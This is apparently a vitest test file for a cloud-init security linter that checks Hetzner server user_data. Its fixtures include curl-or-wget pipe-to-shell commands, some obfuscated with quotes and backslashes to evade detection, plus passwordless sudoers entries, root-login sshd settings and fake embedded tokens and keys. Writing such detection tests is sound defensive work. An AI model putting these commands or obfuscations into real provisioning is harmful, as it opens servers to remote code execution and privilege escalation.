import { gzipSync } from "node:zlib";
import * as YAML from "yaml";
import { describe, expect, it } from "vitest";
import { readStackFile } from "../../components/config/load";
import { TAILNET_AUTH_KEY_PATH, withTailnetKey } from "../../components/render/hosts";
import { fakeTailnetKey, renderedFile, stackFile, renderHosts } from "../helpers/stacks";
import { randomBytes } from "node:crypto";
import { encodeUserData } from "../../policies/engine/userData";
import { HETZNER_USER_DATA_LIMIT } from "../../policies/rules/cloud-init-within-hetzner-user-data-limit";
import { cloudInit, resources, ruleIds } from "./helpers";

const server = (userData: string) => ({ urn: "urn:s", type: "hcloud:index/server:Server", name: "s", inputs: { firewallIds: [1], userData } });

const cfg = readStackFile(stackFile("dev"));
const sandboxUserData = withTailnetKey(renderHosts(cfg).sandbox.cloudInit, fakeTailnetKey());
const gatewayUserData = withTailnetKey(renderHosts(cfg).gateway.cloudInit, fakeTailnetKey());

/** Edit the parsed document, render it back. */
function edited(change: (doc: Record<string, any>) => void, text = sandboxUserData): string {
    const doc = YAML.parse(text);
    change(doc);
    return `#cloud-config\n${YAML.stringify(doc)}`;
}

const secret = {
    github: () => ["ghp", "AbCdEf0123456789AbCdEf0123456789AbCd"].join("_"),
    privateKey: () => ["-----BEGIN OPENSSH", "PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----"].join(" "),
    b2: () => ["K0", "05vX8Qm2LpR7sT1uW3yZ9aBcDeFgH"].join(""),
    generic: () => `API_TOKEN=${["q8Zr", "T2mX", "v9Lp", "K4wN", "e7Yb"].join("")}`,
};

describe("cloud-init rules", () => {
    it.each([["sandbox", sandboxUserData], ["gateway", gatewayUserData]])("airlock's %s user_data passes, join key included", (_, text) => {
        expect(cloudInit(text)).toEqual([]);
    });

    it.each<[string, string, string]>([
        ["ssh_pwauth: true", edited((d) => (d.ssh_pwauth = true)), "cloud-init-ssh-password-auth-off"],
        ["ssh_pwauth: yes", edited((d) => (d.ssh_pwauth = "yes")), "cloud-init-ssh-password-auth-off"],
        ["a GitHub token in runcmd", edited((d) => d.runcmd.push(`echo ${secret.github()} > /root/t`)), "cloud-init-no-secrets"],
        ["a private key in write_files", edited((d) => d.write_files.push({ path: "/root/.ssh/id_ed25519", content: secret.privateKey() })), "cloud-init-no-secrets"],
        ["a B2 key in an env file", edited((d) => d.write_files.push({ path: "/etc/airlock/b2.env", content: `B2_APPLICATION_KEY=${secret.b2()}\n` })), "cloud-init-no-secrets"],
        ["a high-entropy NAME=value", edited((d) => d.write_files.push({ path: "/etc/x.env", content: `${secret.generic()}\n` })), "cloud-init-no-secrets"],
        ["a base64-encoded secret", edited((d) => d.write_files.push({ path: "/etc/y", encoding: "b64", content: Buffer.from(secret.github()).toString("base64") })), "cloud-init-no-secrets"],
        ["a tailnet key outside its file", edited((d) => d.runcmd.push(`tailscale up --auth-key=${fakeTailnetKey()}`)), "cloud-init-no-secrets"],
        ["something else in the key file", edited((d) => d.write_files.find((f: any) => f.path === TAILNET_AUTH_KEY_PATH).content = "hunter2"), "cloud-init-no-secrets"],
        ["tailscale up --ssh", edited((d) => d.runcmd.push("tailscale up --ssh --auth-key=file:/k")), "cloud-init-no-tailscale-ssh"],
        ["tailscale set --ssh in a script", edited((d) => d.write_files.push({ path: "/usr/local/sbin/x", content: "#!/bin/sh\ntailscale set --ssh\n" })), "cloud-init-no-tailscale-ssh"],
        ["tailscale up --ssh as argv", edited((d) => d.runcmd.push(["tailscale", "up", "--ssh"])), "cloud-init-no-tailscale-ssh"],
        ["tailscale up with --ssh on a continued line", edited((d) => d.write_files.push({ path: "/usr/local/sbin/y", content: "#!/bin/sh\ntailscale up \\\n  --hostname=x \\\n  --ssh \\\n  --auth-key=file:/k\n" })), "cloud-init-no-tailscale-ssh"],
        ["curl | sh", edited((d) => d.runcmd.push("curl -fsSL https://get.example.com | sh")), "cloud-init-no-pipe-to-shell"],
        // Red team 23: the shell removes quotes and backslashes before it finds the program.
        ["quoted curl | quoted sh", edited((d) => d.runcmd.push('c"ur"l -fsSL get.example.com/i | s"h"')), "cloud-init-no-pipe-to-shell"],
        ["backslashed, as an argv list", edited((d) => d.runcmd.push(["sh", "-c", "cu\\rl -fsSL get.example.com/i | b\\ash"])), "cloud-init-no-pipe-to-shell"],
        ["empty quotes inside the word", edited((d) => d.runcmd.push("cu''rl -fsSL get.example.com/i | sh")), "cloud-init-no-pipe-to-shell"],
        ["wget | sudo bash", edited((d) => d.runcmd.push("wget -qO- https://x.example/i.sh | sudo -E bash")), "cloud-init-no-pipe-to-shell"],
        ['sh -c "$(curl ...)"', edited((d) => d.runcmd.push('sh -c "$(curl -fsSL https://x.example/i.sh)"')), "cloud-init-no-pipe-to-shell"],
        ["agent with NOPASSWD sudo", edited((d) => (d.users[0].sudo = "ALL=(ALL) NOPASSWD:ALL")), "cloud-init-no-passwordless-sudo-for-agent"],
        ["agent in the docker group", edited((d) => (d.users[0].groups = "users, docker")), "cloud-init-no-passwordless-sudo-for-agent"],
        ["a sudoers drop-in for the agent", edited((d) => d.write_files.push({ path: "/etc/sudoers.d/agent", content: "agent ALL=(ALL) NOPASSWD: ALL\n" })), "cloud-init-no-passwordless-sudo-for-agent"],
        ["an embedded sshd config that loosens", edited((d) => Object.assign(d.write_files.find((f: any) => f.path === "/etc/airlock/sshd_config.in"), { content: "PermitRootLogin yes\n" + renderedFile(renderHosts(cfg).sandbox, "/etc/airlock/sshd_config.in"), encoding: undefined })), "sshd-no-root-login"],
        ["a compressed embedded sshd config that loosens", edited((d) => Object.assign(d.write_files.find((f: any) => f.path === "/etc/airlock/sshd_config.in"), { content: gzipSync("PermitRootLogin yes\n" + renderedFile(renderHosts(cfg).sandbox, "/etc/airlock/sshd_config.in")).toString("base64"), encoding: "gz+b64" })), "sshd-no-root-login"],
        ["an sshd drop-in that enables passwords", edited((d) => d.write_files.push({ path: "/etc/ssh/sshd_config.d/50-cloud-init.conf", content: "PasswordAuthentication yes\n" })), "sshd-no-password-auth"],
        ["an embedded compose with a socket", edited((d) => d.write_files.push({ path: "/home/agent/compose.yml", content: "services:\n  x:\n    image: a\n" })), "containers-drop-all-capabilities"],
        ["MIME user_data", "Content-Type: multipart/mixed\n", "cloud-init-parses"],
        // One file carried whole that the bundle carries today (the checkpoint engine, 53 KB): over Hetzner's limit.
        ["user_data carrying its host code whole", edited((d) => d.write_files.push({ path: "/usr/local/libexec/airlock/checkpoint", content: renderedFile(renderHosts(cfg).sandbox, "/usr/local/libexec/airlock/checkpoint") })), "cloud-init-within-hetzner-user-data-limit"],
    ])("%s", (_, text, rule) => {
        expect(ruleIds(cloudInit(text))).toContain(rule);
        if (!rule.startsWith("containers-")) expect(ruleIds(cloudInit(text))).toEqual([rule]);
    });

    it("counts a plain document as airlock sends it, base64 of its gzip, with what a deploy fills in at its longest", () => {
        const planned = renderHosts(cfg).sandbox.cloudInit; // the join key, the host keys and the bundle URL still placeholders
        // Random text compresses as badly as a key: pad until the document as it stands just fits.
        const noise = randomBytes(30_000).toString("base64");
        const padded = (n: number) => `${planned}# ${noise.slice(0, n)}\n`;
        let n = 0;
        while (encodeUserData(padded(n + 16)).length <= HETZNER_USER_DATA_LIMIT) n += 16;
        const document = padded(n);
        expect(encodeUserData(document).length).toBeLessThanOrEqual(HETZNER_USER_DATA_LIMIT);
        expect(ruleIds(cloudInit(document))).toEqual(["cloud-init-within-hetzner-user-data-limit"]);
        // Sent as is, it is counted as is: exactly the limit passes and one more character fails.
        const asSent = (n: number) => server(`#cloud-config\n# ${"x".repeat(n - 17)}\n`);
        expect([...String(asSent(32_768).inputs.userData)].length).toBe(32_768);
        expect(ruleIds(resources([asSent(32_768)]))).toEqual([]);
        expect(ruleIds(resources([asSent(32_769)]))).toEqual(["cloud-init-within-hetzner-user-data-limit"]);
    });

    it("never echoes a secret in a finding", () => {
        const token = secret.github();
        const findings = cloudInit(edited((d) => d.runcmd.push(`echo ${token}`)));
        expect(JSON.stringify(findings)).not.toContain(token);
    });

    it.each<[string, string]>([
        ["an sshd drop-in that only tightens", edited((d) => d.write_files.push({ path: "/etc/ssh/sshd_config.d/10-tight.conf", content: "PasswordAuthentication no\nX11Forwarding no\n" }))],
        ["a checksum-verified download", edited((d) => d.runcmd.push("curl -fsSLo /tmp/i.sh https://x.example/i.sh && sha256sum -c /tmp/i.sum && sh /tmp/i.sh"))],
        ["tailscale up --ssh=false", edited((d) => d.runcmd.push("tailscale up --ssh=false"))],
        ["a path to a credentials file", edited((d) => d.write_files.push({ path: "/usr/local/sbin/x", content: "#!/bin/sh\n# Credentials: /etc/airlock/backup/sandbox.env (0600)\nTOKEN_FILE=/run/secrets/github-token\n" }))],
        ["a 64-hex sha256 digest", edited((d) => d.runcmd.push(`echo ${"ab".repeat(32)} > /tmp/digest`))],
        ["an operator with sudo", edited((d) => d.users.push({ name: "ops", sudo: "ALL=(ALL) NOPASSWD:ALL" }), gatewayUserData)],
    ])("legitimate: %s", (_, text) => {
        expect(cloudInit(text)).toEqual([]);
    });
});

describe("cloud-init findings on the line that causes them", () => {
    it("names the runcmd entry, the user's key and the write_files entry, not line 1", () => {
        const text = [
            "#cloud-config", //                                          1
            "ssh_pwauth: true", //                                       2
            "users:", //                                                 3
            "  - name: ops", //                                          4
            "    lock_passwd: false", //                                 5
            "    plain_text_passwd: hunter2-" + "x", //                 6
            "runcmd:", //                                                7
            "  - apt-get update", //                                     8
            "  - curl -fsSL https://get.example/install.sh | sh", //    9
            "write_files:", //                                           10
            "  - path: /usr/local/bin/setup", //                         11
            "    content: |", //                                         12
            "      wget -qO- https://get.example/x | bash", //          13
            "",
        ].join("\n");
        const lines = cloudInit(text).map((f) => `${f.rule}:${f.line}`).sort();
        expect(lines).toEqual(
            ["cloud-init-no-passwords:6", "cloud-init-no-pipe-to-shell:11", "cloud-init-no-pipe-to-shell:9", "cloud-init-ssh-password-auth-off:2"].sort(),
        );
    });
});
